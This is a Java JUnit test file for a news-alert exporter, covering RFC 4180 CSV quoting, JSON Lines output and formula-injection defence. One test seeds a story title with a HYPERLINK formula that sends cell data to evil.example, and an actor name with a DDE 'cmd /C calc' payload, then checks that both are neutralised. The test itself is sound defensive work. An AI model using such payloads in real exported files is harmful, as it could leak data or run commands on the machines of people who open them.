package io.wirewatch.alerts.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.wirewatch.alerts.rules.DefaultRules;
import io.wirewatch.alerts.rules.RuleEngine;
import io.wirewatch.alerts.testing.Stories;
import io.wirewatch.schema.Alert;
import io.wirewatch.schema.AvroJson;
import io.wirewatch.schema.EnrichedStory;
import java.io.StringWriter;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

class ExportsTest {

    @Test
    void shouldQuoteCsvFieldsAsRfc4180Says() {
        assertThat(Exports.csvRow(List.of("plain", "a,b", "say \"no\"", "two\nlines", "cr\r", "")))
                .isEqualTo("plain,\"a,b\",\"say \"\"no\"\"\",\"two\nlines\",\"cr\r\",\r\n");
    }

    @Test
    void shouldNeutraliseEveryCellASpreadsheetWouldTakeForAFormula() {
        assertThat(Exports.csvRow(List.of("=1+1", "+A1", "-2+3", "@SUM(A1)", "\tx", "\rx", "-0.50", "+3", "a=b")))
                .isEqualTo("\"'=1+1\",\"'+A1\",\"'-2+3\",\"'@SUM(A1)\",\"'\tx\",\"'\rx\",-0.50,+3,a=b\r\n");
    }

    @Test
    void shouldNeutraliseAHostileStoryTitleAndActorNameInTheAlertAndStoryCsv() {
        EnrichedStory story = Stories.seed();
        story.getStory().setTitle("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
        story.getEntities().get(0).setActorName("@SUM(1+1)*cmd|' /C calc'!A0");
        Alert alert = RuleEngine.evaluate(DefaultRules.ruleSet(), story, Instant.EPOCH).get(0);
        assertThat(alert.getTitle()).startsWith("@SUM(1+1)");
        StringWriter alerts = new StringWriter();
        StringWriter stories = new StringWriter();

        Exports.alerts(List.of(alert), Exports.Format.CSV, alerts);
        Exports.stories(List.of(story), Exports.Format.CSV, stories);

        assertThat(alerts.toString()).contains(",8.90,\"'@SUM(1+1)*cmd|' /C calc'!A0 (RUS)")
                .contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",")
                .doesNotContain(",=").doesNotContain(",@");
        assertThat(stories.toString().split("\r\n")[1]).contains(",\"'=HYPERLINK(").doesNotContain(",=");
    }

    @Test
    void shouldWriteAlertsAsCsvWithAHeaderAndThePublishersDay() {
        Alert alert = RuleEngine.evaluate(DefaultRules.ruleSet(), Stories.seed(), Instant.EPOCH).get(0);
        alert.setPublishedLocal("2022-01-26T13:00:00-05:00");
        StringWriter out = new StringWriter();

        Exports.alerts(List.of(alert), Exports.Format.CSV, out);

        String[] lines = out.toString().split("\r\n");
        assertThat(lines[0]).isEqualTo(String.join(",", Exports.ALERT_COLUMNS));
        assertThat(lines[1]).startsWith(alert.getId() + ",MEDIUM,escalation v3,2022-01-26,2022-01-26T18:00:00Z,"
                + "1970-01-01T00:00:00Z,RUS->WST,RUS USA WST,8.90,");
        assertThat(lines[1]).contains(",https://example.org/seed-1,seed-1,");
    }

    @Test
    void shouldWriteAlertsAsJsonLinesOneObjectALine() throws Exception {
        List<Alert> alerts = RuleEngine.evaluate(DefaultRules.ruleSet(), Stories.seed(), Instant.EPOCH);
        StringWriter out = new StringWriter();

        Exports.alerts(alerts, Exports.Format.JSONL, out);

        String[] lines = out.toString().split("\n");
        assertThat(lines).hasSize(alerts.size());
        assertThat(AvroJson.mapper().readTree(lines[0]).get("id").asText()).isEqualTo(alerts.get(0).getId());
    }

    @Test
    void shouldWriteStoriesWithTheirActorsAndWhetherTheyAreFeedSummaries() throws Exception {
        StringWriter out = new StringWriter();

        Exports.stories(List.of(Stories.seed(), Stories.business()), Exports.Format.JSONL, out);

        String[] lines = out.toString().split("\n");
        assertThat(AvroJson.mapper().readTree(lines[0]).get("actors").asText()).isEqualTo("RUS USA WST");
        assertThat(AvroJson.mapper().readTree(lines[0]).get("signals").asInt()).isEqualTo(2);
        assertThat(AvroJson.mapper().readTree(lines[1]).get("from_feed_summary").asBoolean()).isFalse();
        assertThat(AvroJson.mapper().readTree(lines[1]).get("story_day").asText()).isEqualTo("2022-01-26");
    }

    @Test
    void shouldRefuseAnUnknownFormat() {
        assertThatThrownBy(() -> Exports.Format.parse("xlsx")).hasMessage("format must be csv or jsonl; was 'xlsx'");
        assertThat(Exports.Format.parse(null)).isEqualTo(Exports.Format.CSV);
    }
}
